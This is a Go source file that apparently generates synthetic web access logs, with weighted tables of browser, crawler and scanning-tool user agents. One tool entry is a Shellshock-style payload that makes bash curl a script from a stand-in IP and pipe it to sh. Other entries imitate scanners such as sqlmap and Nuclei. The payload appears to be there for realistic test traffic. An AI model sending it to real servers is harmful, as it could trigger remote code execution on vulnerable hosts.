package loggen

import (
	"fmt"
	"math/rand/v2"
)

// Visitor classes. Humans browse pages and load their assets, crawlers walk
// pages without assets, and tools (scanners, scripts) mostly probe.
const (
	classHuman = iota
	classCrawler
	classTool
	numClasses
)

// uaTemplate renders one user-agent family with versions drawn from r.
type uaTemplate struct {
	weight int
	render func(r *rand.Rand) string
}

// recent returns a version at most span below newest, newer ones more
// likely, as browser auto-updates make them.
func recent(r *rand.Rand, newest, span int) int {
	v := newest
	for v > newest-span && r.IntN(3) != 0 {
		v--
	}
	return v
}

func chromeVer(r *rand.Rand, major int) string {
	if r.IntN(3) != 0 {
		// User-agent reduction: Chrome 101+ reports only the major version.
		return fmt.Sprintf("%d.0.0.0", major)
	}
	return fmt.Sprintf("%d.0.%d.%d", major, 4000+major*44+r.IntN(40), r.IntN(250))
}

var androidDevices = []string{"K", "SM-A525F", "SM-G991B", "SM-A546B", "Pixel 7", "Pixel 8 Pro", "moto g(60)", "M2101K6G", "CPH2219", "SM-S918B"}

var humanUAs = []uaTemplate{
	{30, func(r *rand.Rand) string {
		return "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" +
			chromeVer(r, recent(r, 131, 25)) + " Safari/537.36"
	}},
	{15, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 (Linux; Android %d; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Mobile Safari/537.36",
			recent(r, 14, 5), androidDevices[r.IntN(len(androidDevices))], chromeVer(r, recent(r, 131, 20)))
	}},
	{18, func(r *rand.Rand) string {
		ios := recent(r, 18, 4)
		minor := r.IntN(7)
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Mobile/15E148 Safari/604.1",
			ios, minor, ios, minor)
	}},
	{3, func(r *rand.Rand) string {
		ios := recent(r, 18, 4)
		minor := r.IntN(7)
		return fmt.Sprintf("Mozilla/5.0 (iPad; CPU OS %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Mobile/15E148 Safari/604.1",
			ios, minor, ios, minor)
	}},
	{6, func(r *rand.Rand) string {
		return "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" +
			chromeVer(r, recent(r, 131, 20)) + " Safari/537.36"
	}},
	{6, func(r *rand.Rand) string {
		v := recent(r, 18, 4)
		return fmt.Sprintf("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Safari/605.1.15", v, r.IntN(6))
	}},
	{8, func(r *rand.Rand) string {
		m := recent(r, 131, 20)
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.%d.%d",
			m, m, 2000+r.IntN(900), r.IntN(120))
	}},
	{5, func(r *rand.Rand) string {
		v := recent(r, 133, 20)
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0", v, v)
	}},
	{1, func(r *rand.Rand) string {
		v := recent(r, 133, 20)
		return fmt.Sprintf("Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:%d.0) Gecko/20100101 Firefox/%d.0", v, v)
	}},
	{1, func(r *rand.Rand) string {
		v := recent(r, 133, 20)
		return fmt.Sprintf("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", v, v)
	}},
	{2, func(r *rand.Rand) string {
		return "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" +
			chromeVer(r, recent(r, 131, 20)) + " Safari/537.36"
	}},
	{4, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 (Linux; Android %d; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/%d.0 Chrome/%d.0.0.0 Mobile Safari/537.36",
			recent(r, 14, 4), recent(r, 26, 6), recent(r, 125, 10))
	}},
	{2, func(r *rand.Rand) string {
		ios := recent(r, 18, 3)
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/%d.0.0.%d.%d;FBBV/%d;FBDV/iPhone%d,%d;FBMD/iPhone;FBSN/iOS;FBSV/%d.%d;FBSS/3;FBCR/;FBID/phone;FBLC/nl_NL;FBOP/80]",
			ios, r.IntN(6), 440+r.IntN(40), r.IntN(60), r.IntN(200), 500000000+r.IntN(99999999), 12+r.IntN(5), 1+r.IntN(3), ios, r.IntN(6))
	}},
}

var crawlerUAs = []uaTemplate{
	{20, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	}},
	{20, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
			recent(r, 131, 6), 6700+r.IntN(100), r.IntN(200))
	}},
	{8, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
	}},
	{8, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/%d.0.%d.%d Safari/537.36",
			recent(r, 131, 10), 6000+r.IntN(700), r.IntN(200))
	}},
	{8, func(r *rand.Rand) string { return "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)" }},
	{6, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"
	}},
	{3, func(r *rand.Rand) string { return "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)" }},
	{2, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
	}},
	{2, func(r *rand.Rand) string { return "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)" }},
	{3, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
			recent(r, 17, 3), r.IntN(5))
	}},
	{3, func(r *rand.Rand) string {
		return "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
	}},
	{4, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.%d; +https://openai.com/gptbot)", r.IntN(3))
	}},
	{3, func(r *rand.Rand) string {
		return "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"
	}},
	{3, func(r *rand.Rand) string {
		return fmt.Sprintf("Mozilla/5.0 (compatible; MJ12bot/v1.4.%d; http://mj12bot.com/)", r.IntN(10))
	}},
	{2, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)"
	}},
	{2, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"
	}},
	{3, func(r *rand.Rand) string {
		return "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
	}},
	{3, func(r *rand.Rand) string {
		return fmt.Sprintf("WordPress/%s; https://www.%s-%s.nl", wpVersions[r.IntN(len(wpVersions))],
			trades[r.IntN(len(trades))], surnames[r.IntN(len(surnames))])
	}},
}

var toolUAs = []uaTemplate{
	{10, func(r *rand.Rand) string { return fmt.Sprintf("curl/%d.%d.%d", 7+r.IntN(2), r.IntN(89), r.IntN(3)) }},
	{10, func(r *rand.Rand) string { return fmt.Sprintf("python-requests/2.%d.%d", 20+r.IntN(13), r.IntN(4)) }},
	{4, func(r *rand.Rand) string { return fmt.Sprintf("Python-urllib/3.%d", 6+r.IntN(8)) }},
	{6, func(r *rand.Rand) string { return fmt.Sprintf("Go-http-client/%d.%d", 1+r.IntN(2), 1-r.IntN(2)) }},
	{3, func(r *rand.Rand) string { return fmt.Sprintf("Wget/1.%d.%d", 20+r.IntN(5), r.IntN(5)) }},
	{4, func(r *rand.Rand) string {
		return fmt.Sprintf("sqlmap/1.%d.%d#stable (https://sqlmap.org)", 5+r.IntN(4), r.IntN(12))
	}},
	{4, func(r *rand.Rand) string {
		return "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
	}},
	{3, func(r *rand.Rand) string {
		return fmt.Sprintf("WPScan v3.8.%d (https://wpscan.com/wordpress-security-scanner)", 20+r.IntN(8))
	}},
	{3, func(r *rand.Rand) string { return "Mozilla/5.0 zgrab/0.x" }},
	{2, func(r *rand.Rand) string { return "masscan/1.3 (https://github.com/robertdavidgraham/masscan)" }},
	{2, func(r *rand.Rand) string { return fmt.Sprintf("Java/1.8.0_%d", 200+r.IntN(200)) }},
	{2, func(r *rand.Rand) string { return fmt.Sprintf("okhttp/4.%d.%d", 9+r.IntN(4), r.IntN(4)) }},
	{2, func(r *rand.Rand) string { return fmt.Sprintf("axios/1.%d.%d", r.IntN(8), r.IntN(5)) }},
	{2, func(r *rand.Rand) string {
		return fmt.Sprintf("Apache-HttpClient/4.5.%d (Java/1.8.0_%d)", 10+r.IntN(5), 200+r.IntN(200))
	}},
	{1, func(r *rand.Rand) string { return fmt.Sprintf("libwww-perl/6.%d", 60+r.IntN(20)) }},
	{6, func(r *rand.Rand) string { return "" }},
	{6, func(r *rand.Rand) string {
		return "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"
	}},
	{2, func(r *rand.Rand) string {
		return "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36"
	}},
	{1, func(r *rand.Rand) string {
		return fmt.Sprintf(`() { :;}; /bin/bash -c "curl -s http://198.51.100.%d/x.sh | sh"`, 1+r.IntN(254))
	}},
	{1, func(r *rand.Rand) string { return `Mozilla/5.0 \"Scanner\" (compatible)` }},
}

// buildUAs renders n distinct user agents from the weighted templates. The
// order is the draw order, so index 0 tends to be a popular family; the Zipf
// popularity over indexes then makes it the most frequent, as in real logs.
func buildUAs(r *rand.Rand, templates []uaTemplate, n int) []string {
	total := 0
	for _, t := range templates {
		total += t.weight
	}
	seen := make(map[string]bool, n)
	out := make([]string, 0, n)
	for attempts := 0; len(out) < n; attempts++ {
		x := r.IntN(total)
		var t uaTemplate
		for _, t = range templates {
			if x < t.weight {
				break
			}
			x -= t.weight
		}
		s := t.render(r)
		if seen[s] {
			if attempts < 50*n {
				continue
			}
			// The template space is exhausted (a tiny table asked for many
			// agents); a build suffix keeps the strings distinct and plausible.
			s = fmt.Sprintf("%s build/%d", s, attempts)
		}
		seen[s] = true
		out = append(out, s)
	}
	return out
}
